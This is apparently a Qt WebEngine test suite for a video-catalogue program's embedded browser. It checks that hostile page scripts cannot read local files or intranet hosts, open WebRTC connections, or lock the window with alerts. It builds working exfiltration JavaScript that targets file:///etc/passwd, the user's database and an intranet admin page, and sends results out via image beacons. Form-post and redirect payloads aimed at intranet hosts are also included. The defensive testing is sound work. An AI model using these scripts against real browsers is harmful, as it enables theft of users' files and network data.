// Pages the program shows load the site's scripts, and the site travels over
// plain HTTP. A hostile script, in each kind of page, tries to read the
// user's files and send them to the site; nothing may arrive. The real web
// engine, under a virtual X server.

#include "scripted_server.h"
#include "shell/guarded_page.h"
#include "shell/main_window.h"
#include "shell/template_box.h"
#include "shell/web_engine_browser.h"
#include "shell/web_profile.h"
#include "temp_folder.h"
#include "web_engine_test_main.h"
#include "window_fixture.h"

#include <QApplication>
#include <QListWidget>
#include <QPushButton>
#include <QTcpServer>
#include <QUdpSocket>
#include <QWebEngineProfile>
#include <QWebEngineView>
#include <QTest>


using namespace kinolark;
using Reply = ScriptedServer::Reply;

namespace {

// Reports to the site what it could read of `targets`, by every road a page
// has: fetch, XHR, a frame, an image, a window. "alive" shows it ran.
QByteArray hostileScript(const QString &site, const QStringList &targets)
{
    QString list;
    for (const QString &t : targets)
        list += "'" + t + "',";
    return QString(R"JS(
(function () {
  var SITE = '%1';
  var sent = [];
  function report(kind, data) {
    var img = new Image();
    sent.push(img); // kept, so it is not collected before its request goes out
    img.src = SITE + '/report?kind=' + kind + '&data=' + encodeURIComponent(String(data).slice(0, 300));
  }
  report('alive', location.href);
  [%2].forEach(function (t) {
    try {
      fetch(t).then(function (r) { return r.text(); })
        .then(function (x) { report('fetch', x); }, function (e) { report('refused-fetch', e); });
    } catch (e) { report('refused-fetch', e); }
    try {
      var x = new XMLHttpRequest();
      x.open('GET', t, false);
      x.send();
      report('xhr', x.responseText);
    } catch (e) { report('refused-xhr', e); }
    var f = document.createElement('iframe');
    f.onload = function () {
      try { var text = f.contentDocument.body.innerText; if (text) report('frame', text); }
      catch (e) { report('refused-frame', e); }
    };
    f.src = t;
    document.documentElement.appendChild(f);
    var i = new Image();
    i.onload = function () {
      try {
        var c = document.createElement('canvas');
        c.width = i.width; c.height = i.height;
        c.getContext('2d').drawImage(i, 0, 0);
        report('image', c.toDataURL());
      } catch (e) { report('refused-image', e); }
    };
    i.src = t;
    try { var w = window.open(t); if (w) report('window', 'opened'); } catch (e) {}
  });
  // Last, the page itself tries to go to the first target.
  setTimeout(function () { try { location.href = %3; } catch (e) {} }, 1000);
  setTimeout(function () { report('done', location.href); }, 1500);
})();
)JS").arg(site, list, "'" + targets.value(0) + "'").toUtf8();
}

QWebEngineView *view(shell::Browser *browser)
{
    return static_cast<shell::WebEngineBrowser *>(browser)->view();
}

} // namespace

class tst_PageSafety : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase()
    {
        QVERIFY(m_site.listen());
        QVERIFY(m_intranet.listen());
        m_intranet.setFallback(Reply(200, "intranet-secret"));
        m_profile = shell::makeWebProfile(this, {m_site.site()});
        m_site.on("/page.html", Reply(200, "<html><body><script src=\"/Uploads/soft.js\"></script></body></html>"));
        m_site.on("Lx=Dy&Id=7", Reply(200, "E0$http://v.example/a.mp4"));
        m_site.on("Lx=Nr&Id=7", Reply(200, "d"));
        m_site.setFallback(Reply(204));
    }
    void init() { QTest::failOnWarning(QRegularExpression(".*")); }

    void nothingLocalReachesTheSite_data()
    {
        QTest::addColumn<QString>("page");
        QTest::newRow("notice page") << "home";
        QTest::newRow("play page") << "play";
        QTest::newRow("live television page") << "tv";
        QTest::newRow("a site page") << "site";
    }
    void nothingLocalReachesTheSite()
    {
        QFETCH(QString, page);
        WindowFixture f(m_site.site());
        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
        f.prepareCatalogue({{7, 8, "天下", "t"}});
        const QString catalogue = QUrl::fromLocalFile(f.file("data.db")).toString();
        // A machine of the user's own network, as well as the user's files.
        const QString intranet = m_intranet.site() + "/admin";
        m_site.on("/Uploads/soft.js",
                  Reply(200, hostileScript(m_site.site(), {"file:///etc/passwd", catalogue, intranet}))
                      .type("application/javascript"));
        QVERIFY(writeAll(f.file("tv.htm"), "<html><body>电视直播<script src=\"" + m_site.site().toUtf8()
                                               + "/Uploads/soft.js\"></script></body></html>"));
        m_site.requests.clear();
        m_intranet.requests.clear();

        shell::frmMain &w = f.load();
        if (page == "play") {
            // The play page as it would be with the player script taken over.
            w.Text1->setText(w.Text1->text().replace(QRegularExpression("src=\"[^\"]*player.js\""),
                                                     "src=\"" + m_site.site() + "/Uploads/soft.js\""));
            f.clickNode("cid8");
            w.TreeView2->setCurrentIndex(w.titleRows().index(0, 0));
            w.TreeView2_NodeClick();
            QCOMPARE(w.ListView1->count(), 1);
            w.ListView1->setCurrentRow(0);
            w.ListView1_Click();
        } else if (page == "tv") {
            f.clickNode("cid0");
        } else if (page == "site") {
            w.WebBrowser1->navigate(m_site.site() + "/page.html");
        }
        // Every page that runs the script reports; the one under test decides.
        const QString shownPage = page == "home"   ? "home.htm"
                                  : page == "play" ? "play.htm"
                                  : page == "tv"   ? "tv.htm"
                                                   : "page.html";
        QTRY_VERIFY2_WITH_TIMEOUT(!m_site.requests.filter(QRegularExpression("^kind=done&data=.*" + QRegularExpression::escape(shownPage))).isEmpty(),
                                  qPrintable(m_site.requests.join(" | ")), 15000);

        const QStringList reports = m_site.requests.filter("kind=");
        QVERIFY2(!reports.filter(QRegularExpression("^kind=alive&data=.*" + QRegularExpression::escape(shownPage))).isEmpty(),
                 qPrintable(reports.join('\n')));
        for (const QString &report : reports) {
            const QString kind = report.section('&', 0, 0).section('=', 1);
            QVERIFY2(kind == "alive" || kind == "done" || kind.startsWith("refused-"), qPrintable(report));
            QVERIFY2(!report.contains("root:") && !report.contains("SQLite format")
                         && !report.contains("intranet-secret"),
                     qPrintable(report));
        }
        // No page asks the user's network, a page of the site itself included.
        QVERIFY2(m_intranet.requests.isEmpty(), qPrintable(m_intranet.requests.join('\n')));
        // The program's own navigation still shows its page.
        const QString shown = view(page == "tv" ? w.WebBrowser2 : w.WebBrowser1)->url().toString();
        QVERIFY2(!shown.contains("passwd") && !shown.contains("data.db"), qPrintable(shown));
    }

    // The notice page's script tries to send the browser itself to the
    // user's network, directly or by way of a page of the site.
    void topFrameStaysOnTheSite_data()
    {
        QTest::addColumn<QString>("script");
        QTest::newRow("top.location") << "top.location = INTRANET + '/top';";
        QTest::newRow("a form posted to the top frame")
            << "var f = document.createElement('form'); f.method = 'POST'; f.target = '_top';"
               "f.action = INTRANET + '/form'; var i = document.createElement('input'); i.name = 'secret';"
               "i.value = 'intranet-secret'; f.appendChild(i); document.body.appendChild(f); f.submit();";
        QTest::newRow("a refresh") << "var m = document.createElement('meta'); m.httpEquiv = 'refresh';"
                                      "m.content = '0;url=' + INTRANET + '/refresh'; document.head.appendChild(m);";
        QTest::newRow("a link clicked by script") << "var a = document.createElement('a'); a.href = INTRANET + '/link';"
                                                     "document.body.appendChild(a); a.click();";
        QTest::newRow("an empty answer first") << "location.href = SITE + '/empty';"
                                                  "setTimeout(function () { top.location = INTRANET + '/after'; }, 300);";
        QTest::newRow("a redirect of the site") << "location.href = SITE + '/redirect';";
        // On the site's own page, reading the user's network.
        QTest::newRow("two steps") << "location.href = SITE + '/hop.html';";
    }
    void topFrameStaysOnTheSite()
    {
        QFETCH(QString, script);
        WindowFixture f(m_site.site());
        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
        f.prepareCatalogue({});
        const QString intranet = m_intranet.site();
        const QString code = "var SITE = '" + m_site.site() + "', INTRANET = '" + intranet + "';" + script
                             + "setTimeout(function () { new Image().src = SITE + '/report?kind=done'; }, 1500);";
        m_site.on("/Uploads/soft.js", Reply(200, code.toUtf8()).type("application/javascript"));
        m_site.on("/empty", Reply(204));
        m_site.on("/redirect", Reply(302).header(("Location: " + intranet + "/redirected").toUtf8()));
        const QByteArray hop = "<html><body><script>var I = '" + intranet.toUtf8() + "';"
            "fetch(I + '/fetch').then(function (r) { return r.text(); }).then("
            "  function (t) { new Image().src = '/report?kind=read&data=' + encodeURIComponent(t); },"
            "  function () { new Image().src = '/report?kind=refused'; });"
            "var x = new XMLHttpRequest(); try { x.open('GET', 'http://localhost:" + QByteArray::number(m_intranet.port())
            + "/xhr', false); x.send(); } catch (e) {}"
            "new Image().src = I + '/image';</script></body></html>";
        m_site.on("/hop.html", Reply(200, hop));
        m_site.requests.clear();
        m_intranet.requests.clear();

        f.load();
        QTRY_VERIFY2_WITH_TIMEOUT(m_site.requests.contains("kind=done") || m_site.requests.contains("kind=refused"),
                                  qPrintable(m_site.requests.join(" | ")), 15000);
        if (QString(QTest::currentDataTag()) == "two steps")
            QTRY_VERIFY_WITH_TIMEOUT(m_site.requests.contains("kind=refused"), 10000);
        QVERIFY2(m_intranet.requests.isEmpty(), qPrintable(m_intranet.requests.join('\n')));
        QVERIFY(m_site.requests.filter("kind=read").isEmpty());
    }

    // WebRTC reaches past every request the program sees: it must not be
    // there at all, from the page or from a frame the page makes.
    void webRtcSendsNothing()
    {
        QUdpSocket stun;
        QVERIFY(stun.bind(QHostAddress::LocalHost, 0));
        QTcpServer turn;
        QVERIFY(turn.listen(QHostAddress::LocalHost));
        WindowFixture f(m_site.site());
        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
        f.prepareCatalogue({});
        const QString code = QString(R"JS(
var SITE = '%1';
function report(kind) { new Image().src = SITE + '/report?kind=' + kind; }
function connect(PC, name) {
  if (typeof PC !== 'function') { report('absent-' + name); return; }
  try {
    var pc = new PC({ iceServers: [{ urls: 'stun:127.0.0.1:%2' },
                                   { urls: 'turn:127.0.0.1:%3?transport=tcp', username: 'u', credential: 'c' }] });
    pc.createDataChannel('x');
    pc.createOffer().then(function (o) { return pc.setLocalDescription(o); });
    report('made-' + name);
  } catch (e) { report('refused-' + name); }
}
connect(window.RTCPeerConnection, 'page');
connect(window.webkitRTCPeerConnection, 'webkit');
var f = document.createElement('iframe');
document.body.appendChild(f);
connect(window[0].RTCPeerConnection, 'frame');
var holder = document.createElement('div');
holder.innerHTML = '<iframe name="named"></iframe>';
document.body.appendChild(holder);
connect(window.named.RTCPeerConnection, 'named frame');
document.write('<iframe></iframe>');
connect(frames[frames.length - 1].RTCPeerConnection, 'written frame');
connect(window[0].document.defaultView.RTCPeerConnection, 'frame again');
setTimeout(function () { report('done'); }, 2500);
)JS").arg(m_site.site()).arg(stun.localPort()).arg(turn.serverPort());
        m_site.on("/Uploads/soft.js", Reply(200, code.toUtf8()).type("application/javascript"));
        m_site.requests.clear();
        f.load();
        QTRY_VERIFY2_WITH_TIMEOUT(m_site.requests.contains("kind=done"), qPrintable(m_site.requests.join(" | ")), 15000);
        QVERIFY2(!stun.hasPendingDatagrams(), qPrintable(m_site.requests.join(" | ")));
        QVERIFY2(!turn.hasPendingConnections(), qPrintable(m_site.requests.join(" | ")));
        QVERIFY2(m_site.requests.filter("kind=made").isEmpty(), qPrintable(m_site.requests.join(" | ")));
    }

    // A script that asks for two hundred alerts gets one, over the page
    // alone: the window answers clicks all the while.
    void alertsDoNotLockTheWindow()
    {
        WindowFixture f(m_site.site());
        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
        f.prepareCatalogue({{7, 8, "天下", "t"}});
        m_site.on("/Uploads/soft.js",
                  Reply(200, ("for (var i = 0; i < 200; i++) alert(i); confirm('c'); prompt('p');"
                              "new Image().src = '" + m_site.site() + "/report?kind=after';").toUtf8())
                      .type("application/javascript"));
        m_site.requests.clear();
        shell::frmMain &w = f.load();
        const auto cover = [&] { return w.WebBrowser1->findChild<QWidget *>("pageDialog"); };
        QTRY_VERIFY_WITH_TIMEOUT(cover() && cover()->isVisible(), 15000);
        QVERIFY(!view(w.WebBrowser1)->isEnabled());

        // The rest of the window works: a category lists its titles, and
        // its notice page, loaded anew, brings its own single alert.
        f.clickNode("cid8");
        QCOMPARE(w.titleModel().rowCount(), 1);
        auto *page = static_cast<shell::GuardedPage *>(view(w.WebBrowser1)->page());
        QTRY_COMPARE_WITH_TIMEOUT(page->dialogsShown(), 2, 15000);
        QTRY_COMPARE(w.WebBrowser1->findChildren<QWidget *>("pageDialog").size(), 1);
        QVERIFY(cover()->isVisible());
        QPushButton *ok = cover()->findChild<QPushButton *>();
        QVERIFY(ok);
        QTest::mouseClick(ok, Qt::LeftButton);
        QTRY_VERIFY_WITH_TIMEOUT(m_site.requests.contains("kind=after"), 15000);
        QVERIFY(!cover());
        QVERIFY(view(w.WebBrowser1)->isEnabled());
        QCOMPARE(page->dialogsShown(), 2);
        QVERIFY(page->dialogsAsked() >= 202);
    }

    // The keyboard goes through the real web view and out to the episode
    // list, and back.
    void tabPassesThroughTheWebView()
    {
        WindowFixture f(m_site.site());
        f.services.makeBrowser = [this](QWidget *parent) { return new shell::WebEngineBrowser(m_profile, parent); };
        f.prepareCatalogue({});
        shell::frmMain &w = f.load();
        w.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&w));
        QTRY_COMPARE_WITH_TIMEOUT(view(w.WebBrowser1)->url(), QUrl::fromLocalFile(f.file("home.htm")), 20000);
        const auto inside = [&](QWidget *control) {
            QWidget *focus = QApplication::focusWidget();
            return focus && (focus == control || control->isAncestorOf(focus));
        };
        // Through the page's links until the keyboard leaves the page.
        const auto leaveBrowser = [&](Qt::Key key) {
            for (int press = 0; press < 6 && inside(w.WebBrowser1); ++press) {
                QTest::keyClick(QApplication::focusWidget(), key, key == Qt::Key_Backtab ? Qt::ShiftModifier : Qt::NoModifier);
                (void)QTest::qWaitFor([&] { return !inside(w.WebBrowser1); }, 1000);
            }
        };
        w.TreeView2->setFocus();
        QTest::keyClick(w.TreeView2, Qt::Key_Tab);
        QTRY_VERIFY(inside(w.WebBrowser1));
        leaveBrowser(Qt::Key_Tab);
        QVERIFY2(inside(w.ListView1), qPrintable(QApplication::focusWidget()->objectName()));
        QTest::keyClick(w.ListView1, Qt::Key_Backtab, Qt::ShiftModifier);
        QTRY_VERIFY(inside(w.WebBrowser1));
        leaveBrowser(Qt::Key_Backtab);
        QVERIFY2(inside(w.TreeView2), qPrintable(QApplication::focusWidget()->objectName()));
    }

private:
    ScriptedServer m_site;
    ScriptedServer m_intranet;
    QWebEngineProfile *m_profile = nullptr;
};

KINOLARK_WEBENGINE_TEST_MAIN(tst_PageSafety)

#include "tst_page_safety.moc"
